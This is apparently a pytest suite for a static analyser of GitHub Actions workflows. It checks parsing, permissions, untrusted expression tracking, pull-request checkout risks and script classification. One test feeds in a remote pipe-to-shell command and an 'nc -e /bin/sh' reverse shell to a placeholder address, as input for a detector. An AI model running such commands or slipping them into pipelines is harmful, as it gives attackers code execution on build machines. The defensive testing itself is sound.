from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from guardrail.inputs.pipelines.vocabulary import FIELDS
from guardrail.model import Map, Unknown, plain

SHOP = [
    ".github/actions/greet/action.yml",
    ".github/workflows/ci.yml",
    ".github/workflows/reusable.yml",
    ".github/workflows/triage.yml",
]
CI, TRIAGE = ".github/workflows/ci.yml", ".github/workflows/triage.yml"
W = ".github/workflows/w.yml"


@pytest.fixture
def shop(read_fixture: Callable[..., Any]) -> Any:
    return read_fixture("shop", SHOP)


def at(fields: Map, field: str) -> tuple[int, int]:
    place = fields.place(field)
    return place.line, place.column


def test_resources(shop: Any) -> None:
    assert shop.problems == []
    assert set(shop.files.values()) == {"analysed"}
    assert [(resource.kind, address) for address, resource in shop.by_address.items() if "triage" in address] == [
        ("pipeline", TRIAGE),
        ("job", f"{TRIAGE}#jobs.label"),
        ("step", f"{TRIAGE}#jobs.label.steps[0]"),
        ("step", f"{TRIAGE}#jobs.label.steps[1]"),
        ("step", f"{TRIAGE}#jobs.label.steps[2]"),
        ("step", f"{TRIAGE}#jobs.label.steps[3]"),
        ("job", f"{TRIAGE}#jobs.reuse"),
        ("job", f"{TRIAGE}#jobs.elsewhere"),
    ]
    step = shop.by_address[f"{CI}#jobs.test.steps[3]"]
    assert (step.platform, step.provider, step.scope, step.local) == (
        "pipeline", "github-actions", CI, "jobs.test.steps.unit"
    )  # fmt: skip
    assert shop.by_address[f"{CI}#jobs.test"].attributes["timeout-minutes"] == 15


def test_every_concept_field_has_a_place(shop: Any) -> None:
    for address, resource in shop.by_address.items():
        for concept, nouns in resource.nouns.items():
            for noun in nouns:
                assert set(noun.fields) <= {field.partition(".")[0] for field in FIELDS[concept]}
                for field in FIELDS[concept]:
                    outer, _, inner = field.partition(".")
                    holder = noun.fields[outer] if inner else noun.fields
                    assert holder.place(inner or outer).line, (address, concept, field)


def test_the_fields_are_those_of_the_concepts() -> None:
    import guardrail
    from guardrail.formats.yaml import load

    folder = guardrail.__path__[0] + "/concepts/"
    for concept, fields in FIELDS.items():
        with open(folder + concept + ".yaml", "rb") as stream:
            (document,) = load(stream.read(), concept).documents
        if concept in ("grant", "container"):  # other platforms know more of them
            assert set(fields) <= set(document.value["fields"])
        else:
            assert tuple(document.value["fields"]) == fields


def test_pipeline(shop: Any) -> None:
    ci = shop.noun(CI, "pipeline")
    assert plain(ci.fields) == {
        "name": "CI",
        "system": "github-actions",
        "triggers": ["push", "pull_request"],
        "untrusted": True,
        "privileged_trigger": False,
        "permissions": {"contents": "read"},
        "concurrency": {"group": "ci-${{ github.ref }}", "cancel-in-progress": True},
        "token_scopes": [{"scope": "contents", "level": "read", "documented": False}],
        "contained": False,
    }
    assert at(ci.fields, "untrusted") == (7, 3)
    assert at(ci.fields, "triggers") == (4, 1)
    assert at(ci.fields, "permissions") == (9, 1)
    triage = shop.noun(TRIAGE, "pipeline")
    assert triage.fields["privileged_trigger"] is True
    assert at(triage.fields, "privileged_trigger") == (3, 3)
    assert triage.fields["permissions"] == "write-all"


def test_job(shop: Any) -> None:
    test = shop.noun(f"{CI}#jobs.test", "job")
    assert test.name == "test"
    fields = test.fields
    assert fields["runner"] == ["ubuntu-24.04", "macos-14", "windows-2022"]
    assert fields["self_hosted"] is False
    assert (fields["class"], fields["timeout"]) == ("run", 900)
    assert fields["permissions"] == {"contents": "read"}
    assert at(fields, "permissions") == (9, 1)
    assert fields["secrets"] == ["NPM_TOKEN"]
    assert at(fields, "secrets") == (44, 20)
    assert "environment" not in fields
    assert at(fields, "environment") == (24, 3)
    origin = fields.origin_of("runner")[0]
    assert (origin.note, origin.value, origin.span.line) == ("value of matrix.os", "ubuntu-24.04", 31)

    deploy = shop.noun(f"{CI}#jobs.deploy", "job").fields
    assert deploy["runner"] == ["self-hosted", "linux", "x64"]
    assert deploy["self_hosted"] is True
    assert (deploy["environment"], deploy["deploys"]) == ("production", True)
    assert at(deploy, "environment") == (70, 7)
    assert deploy["condition"] == "github.ref == 'refs/heads/main'"
    assert deploy["permissions"] == {"contents": "write", "id-token": "write", "packages": "none"}
    assert "timeout" not in deploy
    assert at(deploy, "timeout") == (65, 3)
    assert deploy["secrets"] == ["DEPLOY_TOKEN"]


def test_grants(shop: Any) -> None:
    grant = shop.noun(f"{CI}#jobs.deploy", "grant")
    assert (grant.fields["class"], grant.fields["effect"]) == ("token", "allow")
    assert grant.fields["actions"] == ["contents:write", "id-token:write"]
    assert grant.fields["actions"].spans[0].line == 73
    assert grant.fields["all_actions"] is False
    whole = shop.noun(TRIAGE, "grant").fields
    assert (whole["actions"], whole["all_actions"]) == (["*"], True)
    assert shop.nouns(f"{CI}#jobs.test", "grant") == []


def test_containers(shop: Any) -> None:
    job, *services = shop.nouns(f"{CI}#jobs.test", "container")
    assert (job.fields["class"], job.fields["privileged"]) == ("job", True)
    assert job.fields["limits"] == {"cpu": 2.0, "memory": 4 * 1024**3}
    assert job.fields["capabilities"] == {"add": ["SYS_ADMIN"]}
    assert (job.fields["run_as_user"], job.fields["run_as_group"]) == (1000, 1000)
    assert plain(job.fields["mounts"]) == [
        {"path": "/var/run/docker.sock", "read_only": False, "host_path": "/var/run/docker.sock"}
    ]
    ci, token = job.fields["env"]
    assert (ci["name"], ci["value"]) == ("CI", "true")
    assert (token["name"], token["from"]) == ("NPM_TOKEN", "secret")
    assert at(job.fields, "privileged") == (41, 7)

    assert [(s.name, s.key, s.fields["image"]) for s in services] == [
        ("db", "db", "postgres:15"),
        ("db", "db#2", "postgres:16"),
        ("db", "db#3", "postgres:latest"),
    ]
    assert at(services[0].fields, "image") == (47, 9)
    assert services[1].fields.origin_of("image")[0].span.line == 32
    assert plain(services[0].fields["ports"]) == [
        {"port": 5432, "host_port": 5432, "protocol": "TCP"},
        {"port": 9187, "protocol": "UDP"},
    ]
    pins = [(n.fields["name"], n.fields["owner"], n.fields["pin"]) for n in shop.nouns(f"{CI}#jobs.test", "dependency")]
    assert pins == [
        ("ghcr.io/shop/build", "ghcr.io", "digest"),
        ("postgres", "docker.io", "tag"),
        ("postgres", "docker.io", "tag"),
        ("postgres", "docker.io", "none"),
    ]


def test_dependencies(shop: Any) -> None:
    checkout = shop.noun(f"{CI}#jobs.test.steps[0]", "dependency")
    assert checkout.fields["pin"] == "digest"
    assert at(checkout.fields, "version") == (21, 3)  # where the anchor is
    node = shop.noun(f"{CI}#jobs.test.steps[1]", "dependency")
    assert plain(node.fields) == {
        "ecosystem": "action", "name": "actions/setup-node", "owner": "actions", "repository": "actions/setup-node",
        "version": "v4", "pin": "tag", "local": False,
    }  # fmt: skip
    assert node.key == "actions/setup-node"
    local = shop.noun(f"{CI}#jobs.deploy.steps[0]", "dependency")
    assert (local.fields["local"], "pin" in local.fields) == (True, False)
    called = shop.noun(f"{TRIAGE}#jobs.elsewhere", "dependency").fields
    assert (called["ecosystem"], called["name"], called["pin"]) == (
        "workflow", "octo/workflows/.github/workflows/lint.yml", "branch"
    )  # fmt: skip
    image = shop.noun(".github/actions/greet/action.yml#runs.steps[1]", "dependency").fields
    assert (image["ecosystem"], image["name"], image["version"]) == ("image", "alpine", "3.20")


def test_scripts(shop: Any) -> None:
    install = shop.noun(f"{CI}#jobs.test.steps[2]", "script")
    assert (install.name, install.fields["shell"], install.fields["text"]) == ("Install", "bash", "npm ci")
    assert at(install.fields, "shell") == (18, 5)
    unit = shop.noun(f"{CI}#jobs.test.steps[3]", "script").fields
    assert (unit["shell"], unit["text"]) == ("pwsh", "npm test\n")
    assert (unit.header.line, unit.header.column, unit.header.end_column) == (62, 9, 12)
    piped = shop.noun(f"{CI}#jobs.deploy.steps[1]", "script").fields
    assert piped["remote_pipe"] is True
    assert at(piped, "remote_pipe") == (80, 14)


def test_untrusted_expressions_and_their_places(shop: Any) -> None:
    say = shop.noun(f"{TRIAGE}#jobs.label.steps[1]", "script").fields
    assert [(item["expression"], item["source"], item["privileged"]) for item in say["untrusted"]] == [
        ("${{ env.TITLE }}", "env.TITLE, which holds github.event.pull_request.title", True),
        ("${{ github['event']['comment'].Body }}", "github.event.comment.body", True),
    ]
    assert [tuple(span[1:]) for span in say["untrusted"].spans] == [(21, 24, 21, 40), (23, 17, 23, 55)]
    plain_scalar = shop.noun(f"{TRIAGE}#jobs.label.steps[2]", "script").fields
    (where,) = plain_scalar["untrusted"].spans
    assert (where.line, where.column) == (24, 20)
    script = shop.noun(f"{TRIAGE}#jobs.label.steps[3]", "script").fields
    assert (script["class"], script["shell"]) == ("action-script", "javascript")
    assert [item["source"] for item in script["untrusted"]] == ["github.event"]
    assert script["untrusted"].spans[0][1:3] == (29, 29)


def test_inputs_are_followed_to_their_callers(shop: Any) -> None:
    called = shop.noun(".github/workflows/reusable.yml#jobs.print.steps[0]", "script").fields
    assert plain(called["untrusted"]) == [{
        "expression": "${{ inputs.title }}",
        "source": f"inputs.title, handed in by {TRIAGE}#jobs.reuse: github.event.issue.title",
        "privileged": True,
    }]  # fmt: skip
    action = shop.noun(".github/actions/greet/action.yml#runs.steps[0]", "script").fields
    assert [item["source"] for item in action["untrusted"]] == [
        f"inputs.who, handed in by {CI}#jobs.deploy.steps[0]: github.event.head_commit.message"
    ]


def test_a_callee_read_alone_is_not_untrusted(read_fixture: Callable[..., Any]) -> None:
    alone = read_fixture("shop", [".github/workflows/reusable.yml"])
    assert alone.noun(".github/workflows/reusable.yml#jobs.print.steps[0]", "script").fields["untrusted"] == []
    timeout = alone.noun(".github/workflows/reusable.yml#jobs.print", "job").fields["timeout"]
    assert isinstance(timeout, Unknown)
    assert timeout.reason == "vars.LIMIT".lower() + " is set outside of the repository"


def test_calls(shop: Any) -> None:
    reuse = shop.noun(f"{TRIAGE}#jobs.reuse", "job").fields
    assert (reuse["class"], reuse["secrets_inherited"], reuse["secrets"]) == ("call", True, ["*"])
    assert at(reuse, "secrets_inherited") == (32, 5)


JOB = """\
on: {trigger}
jobs:
  a:
    runs-on: ubuntu-latest
    {line}
    steps:
      - {step}
"""


def job(line: str = "name: x", step: str = "run: ls", trigger: str = "pull_request_target") -> str:
    return JOB.format(line=line, step=step, trigger=trigger)


CHECKOUT = "{{uses: actions/checkout@v4, with: {{ref: '{}'}}}}"


@pytest.mark.parametrize(
    ("text", "verdict"),
    [
        (job(step=CHECKOUT.format("${{ github.event.pull_request.head.sha }}")), True),
        (job(step=CHECKOUT.format("refs/pull/${{ github.event.number }}/merge")), True),
        (job(step=CHECKOUT.format("${{ format(''refs/pull/{0}/head'', github.event.number) }}")), True),
        (job(step=CHECKOUT.format("main")), False),
        (job(step="uses: actions/checkout@v4"), False),
        (job(step=CHECKOUT.format("${{ github.event.pull_request.head.sha }}"), trigger="pull_request"), False),
        (job(step=CHECKOUT.format("${{ github.event.workflow_run.head_sha }}"), trigger="workflow_run"), True),
        (job(step="run: gh pr checkout 5"), True),
        (job(step="run: git checkout ${{ github.event.pull_request.head.sha }}"), True),
        (job(line="env: {SHA: '${{ github.event.pull_request.head.sha }}'}", step='run: git checkout "$SHA"'), True),
        (job(step="run: git checkout $GITHUB_HEAD_REF"), True),
        (job(step="run: git checkout main"), False),
        (
            job(
                line="if: github.event.pull_request.head.repo.full_name == github.repository",
                step=CHECKOUT.format("${{ github.event.pull_request.head.sha }}"),
            ),
            False,
        ),
        (
            job(
                line="if: github.event.pull_request.head.repo.fork == false",
                step=CHECKOUT.format("${{ github.event.pull_request.head.sha }}"),
            ),
            False,
        ),
        (
            job(
                line="if: github.event.pull_request.head.repo.fork == false",
                step=CHECKOUT.format("${{ github.event.pull_request.head.sha }}"),
                trigger="[pull_request_target, issue_comment]",
            ),
            True,
        ),
        (job(line="if: github.event_name == 'push'", step="run: gh pr checkout 5"), False),
        (job(line="if: ${{ github.event_name == 'push' }}", step="run: gh pr checkout 5"), False),
        (job(line='if: "${{ github.event_name == \'push\' }}\\n"', step="run: gh pr checkout 5"), True),
        (job(line="if: ${{ github.event_name == 'push' }} && true", step="run: gh pr checkout 5"), True),
    ],
)  # fmt: skip
def test_checking_out_an_outsiders_code(read_texts: Callable[..., Any], text: str, verdict: bool) -> None:
    assert read_texts(text).noun(f"{W}#jobs.a", "job").fields["checks_out_untrusted"] is verdict


def test_a_ref_from_an_earlier_step_is_undetermined(read_texts: Callable[..., Any]) -> None:
    read = read_texts(job(step=CHECKOUT.format("${{ steps.pr.outputs.head_sha }}"), trigger="issue_comment"))
    fields = read.noun(f"{W}#jobs.a", "job").fields
    assert isinstance(fields["checks_out_untrusted"], Unknown)
    assert fields.place("checks_out_untrusted").line == 7


def test_a_condition_that_is_a_text_is_no_problem(read_texts: Callable[..., Any]) -> None:
    read = read_texts(job(line="if: ${{ github.event_name == 'push' }} && ${{ always() }}"))
    assert not read.problems
    assert read.noun(f"{W}#jobs.a", "job").fields["condition"].endswith("&& ${{ always() }}")


@pytest.mark.parametrize(
    ("uses", "name", "owner"),
    [
        ("https://github.com/actions/checkout@v4", "actions/checkout", "actions"),
        ("https://data.forgejo.org/actions/checkout@v4", "actions/checkout", "actions"),
        ("https://github.com/acme/tools/deploy@v4", "acme/tools/deploy", "acme"),
        ("https://git.example.com/actions/checkout@v4", "https://git.example.com/actions/checkout", "git.example.com"),
    ],
)
def test_whole_addresses(read_texts: Callable[..., Any], uses: str, name: str, owner: str) -> None:
    read = read_texts(job(step=f"uses: {uses}"))
    fields = read.noun(f"{W}#jobs.a.steps[0]", "dependency").fields
    assert (fields["name"], fields["owner"], fields["version"]) == (name, owner, "v4")
    assert fields.place("name").line == 7


def test_what_a_job_takes_from_its_workflow(read_texts: Callable[..., Any]) -> None:
    read = read_texts("concurrency: whole\n" + job(trigger="issue_comment"))
    fields = read.noun(f"{W}#jobs.a", "job").fields
    assert (fields["concurrency"], fields.place("concurrency").line) == ("whole", 1)
    assert read.noun(f"{W}#jobs.a.steps[0]", "script").fields["privileged_trigger"] is True
    own = read_texts("concurrency: whole\n" + job(line="concurrency: own")).noun(f"{W}#jobs.a", "job").fields
    assert (own["concurrency"], own.place("concurrency").line) == ("own", 6)


def test_scripts_say_what_they_do(read_texts: Callable[..., Any]) -> None:
    code = "{run: \"ls\\ncurl -k https://x.example/a | sh\\nnc -e /bin/sh 203.0.113.5 4444\"}"
    fields = read_texts(job(step=code)).noun(f"{W}#jobs.a.steps[0]", "script").fields
    assert [fields[name] for name in ("remote_pipe", "skips_verification", "reverse_shell")] == [True] * 3
    python = job(step="{shell: python, run: \"'curl x | sh'\\ncurl -k x | sh\"}")
    assert read_texts(python).noun(f"{W}#jobs.a.steps[0]", "script").fields["skips_verification"] is False


@pytest.mark.parametrize(
    ("runs_on", "runner", "self_hosted"),
    [
        ("ubuntu-latest", ["ubuntu-latest"], False),
        ("[self-hosted, gpu]", ["self-hosted", "gpu"], True),
        ("{group: big, labels: [ubuntu-x]}", ["ubuntu-x"], None),
        ("{group: big}", None, None),
        ("${{ vars.RUNNER }}", None, None),
        ("${{ inputs.x && 'ubuntu-latest' || 'ubuntu-22.04' }}", ["ubuntu-latest", "ubuntu-22.04"], False),
        ("${{ inputs.x && 'self-hosted' || 'ubuntu-22.04' }}", None, None),
        ("${{ inputs.x && 'ubuntu-latest' }}", None, None),
        ("${{ inputs.x || 'ubuntu-latest' }}", None, None),
        ("${{ (a == b && 'ubuntu-latest') || c && 'macos-15' || 'depot-ubuntu-24.04' }}",
         ["ubuntu-latest", "macos-15", "depot-ubuntu-24.04"], False),
        ("${{ true && 'ubuntu-latest' }}", ["ubuntu-latest"], False),
        ("my-machine", ["my-machine"], None),
        ("ubuntu-24.04-arm", ["ubuntu-24.04-arm"], False),
    ],
)
def test_runners(read_texts: Callable[..., Any], runs_on: str, runner: list[str] | None, self_hosted: bool) -> None:
    text = f"on: push\njobs:\n  a:\n    runs-on: {runs_on}\n    steps:\n      - run: ls\n"
    fields = read_texts(text).noun(f"{W}#jobs.a", "job").fields
    assert (fields["runner"] if runner else isinstance(fields["runner"], Unknown)) == (runner or True)
    assert fields["self_hosted"] is self_hosted if self_hosted is not None else (
        isinstance(fields["self_hosted"], Unknown)
    )  # fmt: skip


@pytest.mark.parametrize(
    ("runs_on", "why"),
    [
        ('"codebuild-shop-${{ github.run_id }}"', "which machines carry labels such as codebuild-shop-... is"),
        ('[mine, "run-id=${{ github.run_id }}"]', "which machines carry labels such as run-id=... is"),
        ('"ubuntu-${{ vars.version }}"', "vars.version is set outside of the repository"),
        ('"${{ vars.runner }}"', "vars.runner is set outside of the repository"),
    ],
)
def test_why_nobody_knows_the_machines(read_texts: Callable[..., Any], runs_on: str, why: str) -> None:
    text = f"on: push\njobs:\n  a:\n    runs-on: {runs_on}\n    steps:\n      - run: ls\n"
    assert read_texts(text).noun(f"{W}#jobs.a", "job").fields["self_hosted"].reason.startswith(why)


def test_items_of_a_matrix_value(read_texts: Callable[..., Any]) -> None:
    text = """\
on: push
jobs:
  a:
    strategy:
      matrix:
        platform:
          - [ubuntu-24.04, linux, [10]]
          - [windows-2022, win, [90]]
        include: [{platform: [macos-14, mac, [20]]}]
    runs-on: ${{ matrix.platform[0] }}
    timeout-minutes: ${{ matrix.platform[2][0] }}
    steps:
      - run: make ${{ matrix.platform[1] }}${{ matrix.platform[7] }}
  b:
    strategy: {matrix: {platform: [[a, b]]}}
    runs-on: ${{ matrix.platform[github.run_number] }}
    steps: [{run: make}]
"""
    read = read_texts(text)
    a = read.noun(f"{W}#jobs.a", "job").fields
    assert (a["runner"], a["timeout"]) == (["ubuntu-24.04", "windows-2022", "macos-14"], 5400)
    assert a["self_hosted"] is False
    assert isinstance(read.noun(f"{W}#jobs.b", "job").fields["runner"], Unknown)


def test_matrix_values(read_texts: Callable[..., Any]) -> None:
    text = """\
on: push
jobs:
  a:
    strategy:
      matrix:
        cfg:
          - {os: windows-2022, minutes: 10}
          - {os: windows-2025, minutes: 90}
    runs-on: ${{ matrix.cfg.os }}
    timeout-minutes: ${{ matrix.cfg.minutes }}
    steps:
      - run: dir
  b:
    strategy: {matrix: '${{ fromJSON(needs.a.outputs.m) }}'}
    runs-on: ${{ matrix.os }}
    container: {image: 'app:${{ matrix.tag }}'}
    steps:
      - run: ls
"""
    read = read_texts(text)
    assert read.problems == []
    a = read.noun(f"{W}#jobs.a", "job").fields
    assert (a["runner"], a["timeout"]) == (["windows-2022", "windows-2025"], 5400)
    assert read.noun(f"{W}#jobs.a.steps[0]", "script").fields["shell"] == "pwsh"
    b = read.noun(f"{W}#jobs.b", "job").fields
    assert b["runner"] == Unknown("its matrix is computed when the pipeline runs", ("matrix.os",))
    image = read.noun(f"{W}#jobs.b", "dependency").fields
    assert image["name"] == "app"
    assert isinstance(image["pin"], Unknown)
    assert read.noun(f"{W}#jobs.b.steps[0]", "script").fields["shell"] == "sh"


@pytest.mark.parametrize(
    ("text", "kind", "line"),
    [
        ("on: push\njobs:\n  a: 5\n", "malformed", 3),
        ("on: push\njobs: []\n", "malformed", 2),
        ("on: push\n", "malformed", 1),
        ("jobs:\n  a: {runs-on: x, steps: [{run: ls}]}\n", "malformed", 1),
        ("on: push\njobs:\n  a:\n    runs-on: x\n    steps: {run: ls}\n", "malformed", 5),
        ("on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - ls\n", "malformed", 6),
        ("on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: [ls]\n", "malformed", 6),
        ("on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - name: x\n", "malformed", 6),
        ("on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: echo ${{ a b }}\n", "expression", 6),
        ("on: push\njobs:\n  a:\n    uses: ./.github/workflows/none.yml\n", "missing-action", 4),
        ("on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - uses: ./none\n", "missing-action", 6),
        ("on: push\njobs:\n  a: {runs-on: x, runs-on: y, steps: [{run: ls}]}\n", "duplicate-key", 3),
        ("on: push\njobs: {\n", "syntax", 3),
        ("on: push\njobs:\n  a:\n    runs-on: x\n    timeout-minutes: soon\n    steps: [{run: ls}]\n", "malformed", 5),
    ],
)
def test_problems(read_texts: Callable[..., Any], text: str, kind: str, line: int) -> None:
    read = read_texts(text)
    assert (kind, line) in [(problem.kind, problem.line) for problem in read.problems]
    assert read.files[W] in ("partial", "failed")


def test_an_expression_that_folding_has_joined(read_texts: Callable[..., Any]) -> None:
    read = read_texts(
        "on: {workflow_dispatch: {inputs: {a: {}, b: {}}}}\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: >\n"
        "          x ${{ inputs.a }} --to ${{\n          inputs.b }} ${{ inputs.a }}\n          y ${{\n"
        "          inputs.b }}\n"
    )
    items = read.noun(f"{W}#jobs.a.steps[0]", "script").fields["expansions"]
    assert [span[1:] for span in items.spans] == [
        (7, 13, 7, 28), (7, 34, 8, 22), (8, 23, 8, 38), (9, 13, 10, 22)
    ]  # fmt: skip


def test_the_rest_of_a_broken_workflow_is_read(read_texts: Callable[..., Any]) -> None:
    read = read_texts("on: push\njobs:\n  a: 5\n  b:\n    runs-on: x\n    steps:\n      - 7\n      - run: ls\n")
    assert f"{W}#jobs.b.steps[1]" in read.by_address
    assert read.files[W] == "partial"
    assert len(read.problems) == 2


def test_local_actions_that_come_from_elsewhere_are_notes(read_texts: Callable[..., Any]) -> None:
    step = "{uses: actions/checkout@v4, with: {path: other}}\n      - uses: ./other/action"
    read = read_texts(job(step=step, trigger="push"))
    assert read.problems == []
    assert [note.kind for note in read.notes] == ["missing-action"]
    own = step.replace("actions/checkout@v4", "acme/ci/secure-checkout@v1").replace("/action", "/action/sub")
    assert read_texts(job(step=own, trigger="push")).problems == []
    assert read_texts(job(step="uses: ./../tool", trigger="push")).problems == []
    alone = read_texts({"ci.yml": job(step="uses: ./none", trigger="push")})
    assert (alone.problems, [note.kind for note in alone.notes]) == ([], ["missing-action"])


def test_local_actions_are_found(read_texts: Callable[..., Any]) -> None:
    action = "runs:\n  using: composite\n  steps: []\n"
    text = job(step="uses: ./tools/a", trigger="push")
    assert read_texts(text, {"tools/a/action.yaml": action}).problems == []
    assert read_texts(text, {"tools/a/Dockerfile": "FROM scratch\n"}).problems == []
    inner = {"sub/.github/workflows/w.yml": text}
    assert read_texts(inner, {"sub/tools/a/action.yml": action}).problems == []


def test_lone_files_that_are_no_workflow_are_skipped(read_texts: Callable[..., Any]) -> None:
    read = read_texts({W: "version: 2\n", ".github/workflows/list.yml": "- a\n"})
    assert read.files == {W: "skipped", ".github/workflows/list.yml": "failed"}


def test_local_names_survive_new_steps(read_texts: Callable[..., Any]) -> None:
    before = read_texts(job(step="run: make all", trigger="push"))
    after = read_texts(job(step="run: date\n      - run: make all", trigger="push"))
    assert before.by_address[f"{W}#jobs.a.steps[0]"].local == after.by_address[f"{W}#jobs.a.steps[1]"].local


def test_places_in_quoted_and_folded_text(read_texts: Callable[..., Any]) -> None:
    text = job(
        step='run: "a ${{ github.head_ref }} ${{ github.head_ref }}"\n      - run: >-\n          echo\n'
        "          ${{ github.head_ref }}",
        trigger="pull_request",
    )
    read = read_texts(text)
    quoted = read.noun(f"{W}#jobs.a.steps[0]", "script").fields["untrusted"].spans
    assert [(span.line, span.column) for span in quoted] == [(7, 17), (7, 40)]
    folded = read.noun(f"{W}#jobs.a.steps[1]", "script").fields["untrusted"].spans
    assert [(span.line, span.column) for span in folded] == [(10, 11)]
